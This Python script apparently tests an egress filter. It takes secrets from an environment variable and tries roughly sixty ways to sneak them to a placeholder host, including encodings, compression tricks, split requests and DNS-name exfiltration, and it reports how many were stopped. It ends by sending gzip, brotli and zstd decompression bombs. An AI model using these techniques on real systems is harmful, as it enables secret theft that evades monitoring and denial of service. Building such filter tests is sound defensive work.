"""Ways to carry secrets out, tried one by one on a host that is allowed: prints how many of each kind were stopped.

What the server saw is judged by the test; here a request counts as stopped if it was not answered with 200.
"""
import base64
import codecs
import gzip
import http.client
import io
import json
import os
import socket
import ssl
import sys
import tarfile
import urllib.parse
import zlib

import brotli
import zstandard

SECRETS = [word for word in os.environ["WORDS"].split() if word]
HOST = "allowed.example"
context = ssl.create_default_context()


def ask(method="POST", path="/repo/x", body=None, headers=None, chunks=None):
    link = http.client.HTTPSConnection(HOST, timeout=9, context=context)
    try:
        if chunks is not None:
            link.request(method, path, body=iter(chunks), headers=headers or {}, encode_chunked=True)
        else:
            link.request(method, path, body=body, headers=headers or {})
        return link.getresponse().status in (200, 501)
    except OSError:
        return False
    except http.client.HTTPException:
        return False
    finally:
        link.close()


def two_encodings(body):
    link = http.client.HTTPSConnection(HOST, timeout=9, context=context)
    link.putrequest("POST", "/repo/x")
    for name, value in (("Content-Length", str(len(body))), ("Content-Encoding", "identity"), ("Content-Encoding", "br")):
        link.putheader(name, value)
    link.endheaders(body)
    return link.getresponse().status == 200


def lookup(name):
    try:
        socket.getaddrinfo(name, 443)
        return True
    except OSError:
        return False


def tar(s):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        info = tarfile.TarInfo("x")
        info.size = len(s)
        t.addfile(info, io.BytesIO(s.encode()))
    return out.getvalue()


def multipart(s):
    return f'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n{s}\r\n--b--\r\n'.encode()


def b64(s, before=b"", alphabet=None):
    text = base64.b64encode(before + s.encode())
    return text.translate(bytes.maketrans(b"+/", b"-_")) if alphabet else text


def far(s):
    parameters = zstandard.ZstdCompressionParameters(window_log=27, enable_ldm=True)
    packer = zstandard.ZstdCompressor(compression_params=parameters).compressobj()
    return packer.compress(noise + s.encode()) + packer.flush()


def named(s):
    out = io.BytesIO()
    with gzip.GzipFile(s, "wb", fileobj=out) as g:
        g.write(b"x")
    return out.getvalue()


noise = os.urandom(40_000).hex().encode()
WAYS = {
    "raw body": lambda s: ask(body=b"x " + s.encode()),
    "raw query": lambda s: ask("GET", "/repo/x?a=" + s),
    "raw path": lambda s: ask("GET", "/repo/" + s),
    "header": lambda s: ask("GET", headers={"X-Note": s}),
    "cookie": lambda s: ask("GET", headers={"Cookie": "a=" + s}),
    "user agent": lambda s: ask("GET", headers={"User-Agent": "x/1 " + s}),
    "basic auth": lambda s: ask("GET", headers={"Authorization": "Basic " + b64("user:" + s).decode()}),
    "json": lambda s: ask(body=json.dumps({"a": [1, s]})),
    "json escaped": lambda s: ask(body='{"a":"' + "".join(f"\\u{ord(c):04x}" for c in s) + '"}'),
    "form": lambda s: ask(body=urllib.parse.urlencode({"a": s})),
    "multipart": lambda s: ask(body=multipart(s), headers={"Content-Type": "multipart/form-data; boundary=b"}),
    "percent, all of it": lambda s: ask("GET", "/repo/x?a=" + "".join(f"%{ord(c):02X}" for c in s)),
    "chunks of a byte": lambda s: ask(chunks=[bytes([c]) for c in s.encode()]),
    "within a large body": lambda s: ask(body=noise + s.encode() + noise),
    "over a seam of 64 KiB": lambda s: ask(body=b"y" * ((1 << 16) - 9) + s.encode() + noise),
    "two headers": lambda s: ask("GET", headers={"X-A": s[: len(s) // 2], "X-B": s[len(s) // 2 :]}),
    "two parameters": lambda s: ask("GET", f"/repo/x?a={s[:len(s) // 2]}&b={s[len(s) // 2:]}"),
    "a list of parts": lambda s: ask(body=json.dumps([s[at : at + 4] for at in range(0, len(s), 4)])),
    "base64": lambda s: ask(body=b64(s)),
    "base64, shifted by one": lambda s: ask(body=b64(s, b"x")),
    "base64, shifted by two": lambda s: ask(body=b64(s, b"xy")),
    "base64 for URLs": lambda s: ask("GET", "/repo/x?a=" + b64(s, b"?>", True).decode().rstrip("=")),
    "base64 in lines": lambda s: ask(body=base64.encodebytes(b"z" * 50 + s.encode())),
    "base32": lambda s: ask(body=base64.b32encode(s.encode())),
    "hex": lambda s: ask(body=s.encode().hex()),
    "hex, upper case": lambda s: ask("GET", "/repo/x?a=" + s.encode().hex().upper()),
    "reversed": lambda s: ask(body=s[::-1]),
    "rot13": lambda s: ask(body=codecs.encode(s, "rot13")),
    "utf-16": lambda s: ask(body=s.encode("utf-16-le")),
    "a line for each letter": lambda s: ask(body="\n".join(s)),
    "gzip": lambda s: ask(body=gzip.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "gzip"}),
    "gzip, large": lambda s: ask(body=gzip.compress(noise + s.encode()), headers={"Content-Encoding": "gzip"}),
    "deflate": lambda s: ask(body=zlib.compress(s.encode()), headers={"Content-Encoding": "deflate"}),
    "br": lambda s: ask(body=brotli.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "br"}),
    "br, large": lambda s: ask(body=brotli.compress(noise + s.encode() + noise, quality=4), headers={"Content-Encoding": "br"}),
    "br, by bytes": lambda s: ask(chunks=[bytes([c]) for c in brotli.compress(s.encode() * 3)], headers={"Content-Encoding": "BR"}),
    "br that is none": lambda s: ask(body=s.encode()[::-1], headers={"Content-Encoding": "br"}),
    "zstd": lambda s: ask(body=zstandard.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "zstd"}),
    "zstd, large": lambda s: ask(body=zstandard.compress(noise + s.encode() + noise), headers={"Content-Encoding": "zstd"}),
    "zstd, two frames": lambda s: ask(body=zstandard.compress(noise[:90]) + zstandard.compress(s.encode() * 3), headers={"Content-Encoding": "zstd"}),
    "zstd, told nobody": lambda s: ask(chunks=[(z := zstandard.compress(s.encode() * 3))[:2], z[2:]]),
    "zstd in a form": lambda s: ask(body=multipart("@").replace(b"@", zstandard.compress(s.encode() * 3))),
    "zstd that refers back 128 MiB": lambda s: ask(body=far(s), headers={"Content-Encoding": "zstd"}),
    "gzip, told nobody, after a byte": lambda s: ask(chunks=[(z := gzip.compress(s.encode()))[:1], z[1:2], z[2:]]),
    "gzip in a form": lambda s: ask(body=multipart("@").replace(b"@", gzip.compress(s.encode()))),
    "behind gzip": lambda s: ask(body=gzip.compress(b"x") + s.encode()),
    "what begins as gzip": lambda s: ask(body=b"\x1f\x8b\x08\x00 it is none " + s.encode()),
    "the name in gzip": lambda s: ask(body=named(s), headers={"Content-Encoding": "gzip"}),
    "deflate, told nobody": lambda s: ask(body=zlib.compress(s.encode())),
    "two encodings in two headers": lambda s: two_encodings(s[::-1].encode()),
    "a coding of the transfer": lambda s: ask(headers={"Transfer-Encoding": "deflate, chunked"}, chunks=[zlib.compress(s.encode())[2:-4]]),
    "a method": lambda s: ask(method=s),
    "escaped line breaks": lambda s: ask(body="%0d%0a".join(s)),
    "escaped quotes in json": lambda s: ask(body="\\u0022\\u002c".join(s)),
    "escapes of C": lambda s: ask(body="".join(f"\\x{ord(c):02x}" for c in s)),
    "utf-16, the high byte first": lambda s: ask(body=s.encode("utf-16-be")),
    "a tar archive": lambda s: ask(body=tar(s)),
    "another encoding": lambda s: ask(body=s.encode()[::-1], headers={"Content-Encoding": "compress"}),
    "a name": lambda s: lookup(f"{s.encode().hex()[:60]}.{s.encode().hex()[60:] or 'x'}.wild.example"),
    "a name, base32": lambda s: lookup(base64.b32encode(s.encode()).decode().strip("=").lower()[:60] + ".wild.example"),
    "a name, by letters": lambda s: lookup(".".join(s) + ".wild.example"),
    # What cannot be caught in principle, or is not.
    "(not promised) thirds in three requests": lambda s: any([ask(body=s[at : at + len(s) // 3 + 1]) for at in range(0, len(s), len(s) // 3 + 1)]),
    "(not promised) xor": lambda s: ask(body=bytes(c ^ 0x5A for c in s.encode())),
    "(not promised) base64 twice": lambda s: ask(body=b64(b64(s).decode())),
}
print("clean", sum(ask(body=word) for word in ["hello", "no secret here", "A" * 100]), ask("GET", "/repo/fine?a=b"))
total = stopped = 0
for kind, way in WAYS.items():
    caught = sum(not way(secret) for secret in SECRETS)
    print(f"kind {kind}: {caught}/{len(SECRETS)}")
    if not kind.startswith("("):
        total, stopped = total + len(SECRETS), stopped + caught
print(f"all {stopped}/{total}")
# A bomb: a GiB in a MiB.
bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
parts = [bomb.compress(bytes(1 << 20)) for _ in range(256)] + [bomb.flush()]
print("bomb", ask(body=b"".join(parts), headers={"Content-Encoding": "gzip"}))
zeros = bytes(1 << 27)
print("bomb of br", ask(body=brotli.compress(zeros, quality=4), headers={"Content-Encoding": "br"}))
print("bomb of zstd", ask(body=zstandard.compress(zeros), headers={"Content-Encoding": "zstd"}))
fine = b"nothing but ordinary text " * 9000
print("fine", ask(body=brotli.compress(fine), headers={"Content-Encoding": "br"}), ask(body=zstandard.compress(fine), headers={"Content-Encoding": "zstd"}))
sys.stdout.flush()
